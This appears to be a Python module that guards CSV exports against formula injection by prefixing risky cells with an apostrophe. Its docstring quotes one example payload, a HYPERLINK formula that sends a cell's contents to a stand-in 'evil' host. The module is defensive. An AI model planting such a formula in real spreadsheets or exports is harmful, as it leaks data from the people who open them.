"""CSV cells a spreadsheet cannot run: the usual defence against formula injection.

A customer id, a name or a note comes from outside; written to a CSV cell as
``=HYPERLINK("http://evil/?"&A1, "click")`` it becomes a live formula when an analyst
opens the export in Excel or LibreOffice. Every CSV churnwatch writes passes its cells
through :func:`safe_cell`: a text starting with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe, which spreadsheets show as text. Plain
numbers (``-12.50``) are left alone: they cannot be formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["safe_cell", "safe_writer"]

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(?:\.\d+)?$")


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _NUMBER.match(value):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer: _Writer) -> None:
        self.writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self.writer.writerow([safe_cell(cell) for cell in row])


def safe_writer(stream: Any) -> _SafeWriter:
    """A ``csv.writer`` over ``stream`` whose every cell goes through :func:`safe_cell`."""
    return _SafeWriter(csv.writer(stream, lineterminator="\n"))
